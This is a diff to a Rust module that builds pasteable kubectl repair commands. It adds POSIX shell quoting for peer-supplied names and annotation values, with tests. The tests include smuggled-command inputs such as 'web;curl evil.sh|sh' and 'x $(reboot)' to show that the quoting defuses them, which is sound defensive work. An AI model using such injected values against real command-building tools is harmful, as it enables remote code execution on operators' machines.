@@ -1,4 +1,8 @@
-//! The fix commands, one place: `kubectl` lines a person can paste as they are.
+//! The fix commands, one place: `kubectl` lines a person can paste as they are. Every argument
+//! that comes from a peer (names, namespaces, annotation values) is shell-quoted, so pasting a
+//! line runs `kubectl` and nothing else, whatever the API server or Terraform output said.
+
+use std::borrow::Cow;
 
 use gke_aws_webhook::mutate::INJECT_LABEL;
 
@@ -6,6 +10,7 @@ use crate::snapshot::Owned;
 
 /// What gives a pod a fresh admission: restart its workload, or recreate it.
 pub fn readmit(namespace: &str, pod: &str, owned: &Owned) -> String {
+    let (namespace, pod) = (sh(namespace), sh(pod));
     let Some(workload) = &owned.workload else {
         return format!(
             "kubectl delete pod {pod} --namespace {namespace}, then create it again from its manifest (a bare pod is never recreated)"
@@ -13,20 +18,21 @@ pub fn readmit(namespace: &str, pod: &str, owned: &Owned) -> String {
     };
     match workload.kind.as_str() {
         "Deployment" | "StatefulSet" | "DaemonSet" => format!(
-            "kubectl rollout restart {}/{} --namespace {namespace}",
-            workload.kind.to_lowercase(),
-            workload.name
+            "kubectl rollout restart {} --namespace {namespace}",
+            sh(&format!("{}/{}", workload.kind.to_lowercase(), workload.name))
         ),
         "CronJob" => {
             let job = owned.direct.as_ref().map_or("JOB", |d| d.name.as_str());
             format!(
-                "kubectl delete job {job} --namespace {namespace} && kubectl create job {job}-readmitted --from=cronjob/{} --namespace {namespace}",
-                workload.name
+                "kubectl delete job {} --namespace {namespace} && kubectl create job {} {} --namespace {namespace}",
+                sh(job),
+                sh(&format!("{job}-readmitted")),
+                sh(&format!("--from=cronjob/{}", workload.name))
             )
         }
         "Job" => format!(
             "kubectl delete job {} --namespace {namespace}, then apply its manifest again (a Job's pods are not restarted)",
-            workload.name
+            sh(&workload.name)
         ),
         // A ReplicaSet without a Deployment, or another controller: it recreates a deleted pod.
         _ => format!(
@@ -38,6 +44,7 @@ pub fn readmit(namespace: &str, pod: &str, owned: &Owned) -> String {
 
 /// Puts the opt-in label on the pod template (which rolls the pods), per kind.
 pub fn label_template(kind: &str, namespace: &str, name: &str) -> String {
+    let (namespace, name) = (sh(namespace), sh(name));
     let label = format!("{{\"metadata\":{{\"labels\":{{\"{INJECT_LABEL}\":\"true\"}}}}}}");
     match kind {
         "CronJob" => format!(
@@ -48,19 +55,66 @@ pub fn label_template(kind: &str, namespace: &str, name: &str) -> String {
         ),
         _ => format!(
             "kubectl patch {} {name} --namespace {namespace} --type merge -p '{{\"spec\":{{\"template\":{label}}}}}' (and in its manifest, or the next apply undoes it)",
-            kind.to_lowercase()
+            sh(&kind.to_lowercase())
         ),
     }
 }
 
 /// `kubectl annotate` of a KSA: `Some(value)` sets, `None` removes.
 pub fn annotate(namespace: &str, ksa: &str, changes: &[(String, Option<String>)]) -> String {
-    let mut line = format!("kubectl annotate serviceaccount {ksa} --namespace {namespace} --overwrite");
+    let mut line = format!(
+        "kubectl annotate serviceaccount {} --namespace {} --overwrite",
+        sh(ksa),
+        sh(namespace)
+    );
     for (key, value) in changes {
-        match value {
-            Some(v) => line.push_str(&format!(" {key}={v}")),
-            None => line.push_str(&format!(" {key}-")),
-        }
+        let change = match value {
+            Some(v) => format!("{key}={v}"),
+            None => format!("{key}-"),
+        };
+        line.push(' ');
+        line.push_str(&sh(&change));
     }
     line
+}
+
+/// One shell word: as it is when it holds only characters no POSIX shell treats specially,
+/// else single-quoted (a `'` inside as `'\''`).
+pub fn sh(word: &str) -> Cow<'_, str> {
+    let plain = !word.is_empty()
+        && word.chars().all(|c| {
+            c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/' | ':' | '=' | '@' | '%' | '+' | ',')
+        });
+    if plain {
+        Cow::Borrowed(word)
+    } else {
+        Cow::Owned(format!("'{}'", word.replace('\'', "'\\''")))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn plain_words_stay_and_the_rest_is_single_quoted() {
+        assert_eq!(sh("web-7f9c"), "web-7f9c");
+        assert_eq!(sh("--from=cronjob/nightly"), "--from=cronjob/nightly");
+        assert_eq!(sh("web;curl evil.sh|sh"), "'web;curl evil.sh|sh'");
+        assert_eq!(sh("it's"), "'it'\\''s'");
+        assert_eq!(sh(""), "''");
+    }
+
+    #[test]
+    fn an_annotation_value_with_shell_syntax_is_one_word() {
+        let line = annotate(
+            "team",
+            "reader",
+            &[("eks.amazonaws.com/role-arn".to_owned(), Some("x $(reboot)".to_owned()))],
+        );
+        assert_eq!(
+            line,
+            "kubectl annotate serviceaccount reader --namespace team --overwrite 'eks.amazonaws.com/role-arn=x $(reboot)'"
+        );
+    }
 }
